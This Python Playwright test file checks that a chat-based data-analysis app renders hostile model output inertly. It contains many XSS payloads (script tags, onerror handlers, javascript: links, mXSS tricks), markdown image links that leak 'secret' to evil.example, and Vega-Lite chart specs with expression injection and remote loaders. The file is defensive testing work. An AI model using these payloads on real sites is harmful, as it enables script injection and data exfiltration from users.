"""A model that was talked into mischief: nothing it says runs, loads or leads astray.

That no request left the origin and no policy was broken is asserted after every test, by the context.
"""

import re

from playwright.sync_api import Locator, Page, Route, expect
from pydantic import JsonValue

from tests.e2e.page.browser import ask
from tests.e2e.test_turn import PER_COUNTRY, sql
from tests.support.cases import assert_each
from tests.support.choices import FIRST
from tests.support.scripted_model import ScriptedModel

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><animate onbegin='window.hacked = 1'></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=q autofocus onfocus='window.hacked = 1'></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "![secret](https://evil.example/?q=secret)",
    "![secret][ref]\n\n[ref]: https://evil.example/?q=secret",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&colon;window.hacked=1)",
    "[click](data:text/html,<script>parent.hacked=1</script>)",
    "[click](//evil.example)",
    "<a href='vbscript:x' onclick='window.hacked = 1'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "```html\n</code></pre><img src=x onerror='window.hacked = 1'>\n```",
    "| a |\n|---|\n| <img src=x onerror='window.hacked = 1'> |",
]


EVIL = "https://evil.example/x"
RUNS = "toString.constructor('window.hacked = 1')()"
BARS: dict[str, JsonValue] = {
    "data": {"name": "rows", "values": [{"c0": "a", "c1": 1}]},
    "mark": "bar",
    "encoding": {
        "x": {"field": "c0", "type": "nominal"},
        "y": {"field": "c1", "type": "quantitative"},
        "href": {"value": "javascript:window.hacked=1"},
    },
    "usermeta": {"embedOptions": {"loader": {"baseURL": EVIL}, "ast": False}},
}
HOSTILE_CHARTS: list[dict[str, JsonValue]] = [
    BARS,
    {**BARS, "encoding": {"href": {"value": EVIL}, "tooltip": {"value": HOSTILE[1]}}},
    {**BARS, "data": {"url": f"{EVIL}.json"}},
    {**BARS, "mark": "image", "encoding": {"url": {"value": f"{EVIL}.png"}}},
    {**BARS, "transform": [{"calculate": RUNS, "as": "run"}]},
    {**BARS, "title": {"text": {"expr": RUNS}}, "width": {"expr": RUNS}},
    {**BARS, "background": f"url({EVIL}.png)", "description": HOSTILE[0]},
    {**BARS, "params": [{"name": "p", "expr": RUNS, "bind": {"input": "text", "element": "body"}}]},
    {
        **BARS,
        "config": {"font": f"x; background: url({EVIL}.png)", "style": {"bar": {"fill": f"url({EVIL})"}}},
    },
]
FORBIDDEN = "a, script, img, svg, iframe, style, link, form, input, meta, base, math, object, embed, [style]"


def test_nothing_a_model_says_does_anything(page: Page, model: ScriptedModel, session: str) -> None:
    page.goto(f"/sessions/{session}")
    for number, said in enumerate(HOSTILE, start=1):
        model.say(f"CHAT: before\n\n{said}\n\nafter")
        ask(page, f"Number {number}")
        expect(page.locator(".answer-actions")).to_have_count(number)
        analysis = page.locator(".analysis").last
        assert_harmless(analysis, said)
    assert page.evaluate("window.hacked") is None


def assert_harmless(analysis: Locator, said: str) -> None:
    expect(analysis).to_contain_text(re.compile(r"before.*after", re.DOTALL))
    assert analysis.locator(FORBIDDEN).count() == 0, said


def test_an_address_is_text_with_all_that_it_carries(page: Page, model: ScriptedModel, session: str) -> None:
    address = "https://evil.example/?rows=secret"
    model.say(f"CHAT: See [the manual]({address}) or https://kai.example/docs.")
    page.goto(f"/sessions/{session}")
    ask(page, "Where is more?")
    expect(page.locator(".answer-actions")).to_be_visible()
    analysis = page.locator(".analysis")
    expect(analysis).to_have_text(f"See the manual ({address}) or https://kai.example/docs.")
    expect(analysis.locator("a")).to_have_count(0)


def test_markup_in_questions_explanations_cells_and_column_names_is_text(
    page: Page, model: ScriptedModel, session: str
) -> None:
    image = "<img src=x onerror='window.hacked = 1'>"
    quoted = image.replace("'", "''")
    statement = f"SELECT '{quoted}' AS \"{image}\", 1 AS n UNION ALL SELECT 'b', 2"
    model.say(sql(statement, f"Understood {image}."), "Fine.")
    page.goto(f"/sessions/{session}")
    ask(page, f"What about {image}?")
    expect(page.locator(".answer-actions")).to_be_visible()
    page.get_by_role("tab", name="Table").click()
    expect(page.get_by_role("tabpanel")).to_contain_text("onerror")
    for fold in ("sql", "origin"):
        page.locator(f".fold-{fold} > summary").click()
        expect(page.locator(f".fold-{fold} .fold-body")).to_contain_text("onerror")
    assert page.evaluate("window.hacked") is None
    expect(page.locator("main img")).to_have_count(0)


def test_a_chart_loads_and_runs_nothing(page: Page, model: ScriptedModel, session: str) -> None:
    """Even a specification that the server would have refused."""
    shown: dict[str, JsonValue] = {}

    def answer(route: Route) -> None:
        answer = route.fetch()
        body = answer.json()
        body["messages"]["items"][1]["chart"] = shown
        route.fulfill(response=answer, json=body)

    model.say(sql(PER_COUNTRY), FIRST)
    page.goto(f"/sessions/{session}")
    ask(page, "How many customers per country?")
    expect(page.locator(".answer-actions")).to_be_visible()
    page.route(f"**/api/v1/sessions/{session}?*", answer)
    page.route(f"**/api/v1/sessions/{session}", answer)

    def is_harmless(spec: dict[str, JsonValue]) -> None:
        nonlocal shown
        shown = spec
        page.reload()
        drawn = page.locator(".chart-canvas svg")
        failed = page.get_by_text("This chart cannot be drawn.")
        expect(drawn.or_(failed).first).to_be_attached()
        for item in drawn.locator("path").all()[:5]:
            item.dispatch_event("click")
        page.get_by_role("button", name="Save the chart").click()
        page.get_by_role("menuitem", name="SVG").click()
        page.wait_for_timeout(300)
        assert page.evaluate("window.hacked") is None
        assert page.locator("main img, main a[href^='javascript']").count() == 0
        loaded = "images => images.map(each => each.href.baseVal).filter(Boolean)"
        assert page.locator("main image").evaluate_all(loaded) == []

    assert_each(HOSTILE_CHARTS, is_harmless)
